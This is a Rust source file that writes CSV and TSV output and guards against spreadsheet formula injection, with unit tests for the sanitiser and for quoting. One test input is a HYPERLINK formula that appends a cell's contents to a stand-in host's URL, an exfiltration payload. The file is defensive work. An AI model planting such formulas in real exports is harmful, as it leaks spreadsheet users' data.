//! csv and tsv.

use std::borrow::Cow;
use std::io::{self, Write};

use hss_client::printable;

use super::{Output, Spool, spool};
use crate::exit::Ending;
use crate::format::Format;

/// Rows that are written once all are there: half a file would look like a whole one.
#[derive(Debug)]
pub(crate) struct Delimited {
    lines: Spool,
    format: Format,
    /// Whether cells are left as they came.
    is_raw: bool,
    /// Whether a terminal shows them.
    is_terminal: bool,
}

impl Delimited {
    pub(crate) fn new(output: &Output) -> Self {
        Self { lines: spool(), format: output.format, is_raw: output.options.is_raw, is_terminal: output.is_terminal }
    }

    pub(crate) fn push<'a>(&mut self, cells: impl Iterator<Item = Cow<'a, str>>) -> io::Result<()> {
        let is_tsv = self.format == Format::Tsv;
        let (separator, end) = if is_tsv { ("\t", "\n") } else { (",", "\r\n") };
        let mut is_empty = true;
        for (index, cell) in cells.enumerate() {
            if index > 0 {
                self.lines.write_all(separator.as_bytes())?;
            }
            let shown = match self.is_raw {
                true if !is_tsv && !self.is_terminal => Cow::Borrowed(&*cell),
                true => printable(&cell),
                false => harmless(&cell, self.format),
            };
            is_empty &= index == 0 && shown.is_empty();
            if is_tsv {
                // It has neither tabs nor line feeds: there is nothing to quote.
                self.lines.write_all(shown.as_bytes())?;
            } else {
                write_quoted(&shown, &mut self.lines)?;
            }
        }
        if is_empty && !is_tsv {
            // An empty line would be no row.
            self.lines.write_all(b"\"\"")?;
        }
        self.lines.write_all(end.as_bytes())
    }

    pub(crate) fn finish(self, output: &Output) -> Result<(), Ending> {
        output.kept(self.lines)
    }
}

/// Writes a cell of csv by RFC 4180: in quotation marks where it has to be.
fn write_quoted(cell: &str, lines: &mut impl Write) -> io::Result<()> {
    if !cell.contains([',', '"', '\r', '\n']) {
        return lines.write_all(cell.as_bytes());
    }
    lines.write_all(b"\"")?;
    for (index, part) in cell.split('"').enumerate() {
        if index > 0 {
            lines.write_all(b"\"\"")?;
        }
        lines.write_all(part.as_bytes())?;
    }
    lines.write_all(b"\"")
}

/// A cell that no terminal acts on and no spreadsheet runs: hidden characters are escaped, and an apostrophe is written before
/// each character that would begin a formula.
///
/// A spreadsheet that separates cells at semicolons ends a cell at one, even inside of quotation marks: it knows these at the
/// beginning of a cell alone. So what follows a semicolon is treated as the beginning of a cell, and what follows a comma or
/// colon with white space, too, since some programs also split there. In tsv, a comma counts like a semicolon: spreadsheets
/// offer to separate cells at tabs, commas and semicolons all at once. In csv, a cell with a comma is quoted. An apostrophe
/// after a semicolon at the end keeps the quotation mark that csv writes there from being the first character of a cell.
fn harmless(cell: &str, format: Format) -> Cow<'_, str> {
    let shown = printable(cell);
    let mut apostrophes = Vec::new();
    // Whether a cell may begin here, and the separator before it, if that takes white space to count.
    let (mut is_start, mut separator) = (true, false);
    for (index, character) in shown.char_indices() {
        match character {
            _ if is_start && begins_formula(character) => apostrophes.push(index),
            ';' | ',' if character == ';' || format == Format::Tsv => {
                (is_start, separator) = (true, false);
                continue;
            }
            ',' | ':' => {
                (is_start, separator) = (false, true);
                continue;
            }
            _ if character.is_whitespace() => {
                (is_start, separator) = (is_start || separator, false);
                continue;
            }
            _ => {}
        }
        (is_start, separator) = (false, false);
    }
    if shown.trim_end().ends_with(';') {
        apostrophes.push(shown.len());
    }
    if apostrophes.is_empty() {
        return shown;
    }
    let mut harmless = String::with_capacity(shown.len() + apostrophes.len());
    let mut copied = 0;
    for index in apostrophes {
        harmless.push_str(shown.get(copied..index).unwrap_or_default());
        harmless.push('\'');
        copied = index;
    }
    harmless.push_str(shown.get(copied..).unwrap_or_default());
    Cow::Owned(harmless)
}

/// Whether a spreadsheet does not take a cell that begins with this character as text. A quotation mark takes all cells up to
/// the next one into its cell.
fn begins_formula(character: char) -> bool {
    // Spreadsheets take the full-width forms for the others.
    matches!(character, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '"')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_is_a_formula() {
        for (cell, shown) in [
            ("=1+1", "'=1+1"),
            ("+1+1", "'+1+1"),
            ("-1+1", "'-1+1"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", r"\u{9}=1"),
            ("\r=1", r"\u{d}=1"),
            ("＝1+1", "'＝1+1"),
            ("\u{feff}=1", r"\u{feff}=1"),
            ("\u{200d}=1", r"\u{200d}=1"),
            (r#"=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#, r#"'=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#),
            (" =1", " '=1"),
            ("\u{a0}=1", "\u{a0}'=1"),
            ("\u{2003}\u{3000} =1", "\u{2003}\u{3000} '=1"),
            (r#""=1+1""#, r#"'"=1+1""#),
            ("\"unbalanced", "'\"unbalanced"),
            (" \"unbalanced", " '\"unbalanced"),
            ("a;=1+1", "a;'=1+1"),
            ("a; =1+1; b", "a; '=1+1; b"),
            ("a;\u{3000}\"=1", "a;\u{3000}'\"=1"),
            (";;=1", ";;'=1"),
            ("a, b;", "a, b;'"),
            ("a, b; ", "a, b; '"),
            ("=1;=2", "'=1;'=2"),
            ("linux_vul: =1+1", "linux_vul: '=1+1"),
            ("linux_vul: \u{a0}\"=1+1\"", "linux_vul: \u{a0}'\"=1+1\""),
            ("disk, @SUM(1)", "disk, '@SUM(1)"),
        ] {
            assert_eq!(harmless(cell, Format::Csv), shown, "{cell:?}");
        }
    }

    #[test]
    fn a_cell_is_quoted_where_it_has_to_be() {
        let quoted = |cell: &str| {
            let mut written = Vec::new();
            write_quoted(cell, &mut written).unwrap();
            String::from_utf8(written).unwrap()
        };
        for cell in ["", " ", "a", "a,b", "a\"b", "\"", "a\nb", "a\r", "\r\n", "a;b", "\t", "生产,"] {
            for row in [&["x", cell][..], &[cell, "x"], &[cell]] {
                let line: Vec<_> = row.iter().map(|cell| quoted(cell)).collect();
                let line = format!("x\r\n{}\r\n", if row == [""] { "\"\"".into() } else { line.join(",") });
                let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(line.as_bytes());
                assert_eq!(reader.records().next().unwrap().unwrap(), row.to_vec(), "{line:?}");
            }
        }
        assert_eq!(quoted("a;b"), "a;b");
    }

    #[test]
    fn a_comma_separates_cells_where_tabs_do() {
        for (cell, shown) in [
            ("a,=1+1", "a,'=1+1"),
            ("a,\"b", "a,'\"b"),
            ("a,\u{a0}@b,c", "a,\u{a0}'@b,c"),
            ("a;=1+1", "a;'=1+1"),
            ("a,;-1", "a,;'-1"),
            ("linux_vul: =1+1", "linux_vul: '=1+1"),
            ("=1", "'=1"),
            ("192.0.2.1,192.0.2.2", "192.0.2.1,192.0.2.2"),
            ("a:=1", "a:=1"),
        ] {
            assert_eq!(harmless(cell, Format::Tsv), shown, "{cell:?}");
        }
    }

    #[test]
    fn the_time_for_many_formulas_does_not_grow_with_their_square() {
        let started = std::time::Instant::now();
        assert_eq!(harmless(&";=".repeat(2_000_000), Format::Csv).len(), 6_000_000);
        assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
    }

    #[test]
    fn what_is_no_formula_is_left_as_it_is() {
        for cell in [
            "",
            " ",
            "a=1",
            "'=1",
            "生产-01",
            "web-1, web-2",
            "a - b",
            "say \"hi\"",
            "2024-11-25T08:00:00-05:00",
            r#"{"a":-1,"b":["c","+d"],"e":"=f"}"#,
            "fe80::1:+",
        ] {
            assert_eq!(harmless(cell, Format::Csv), cell);
        }
    }
}
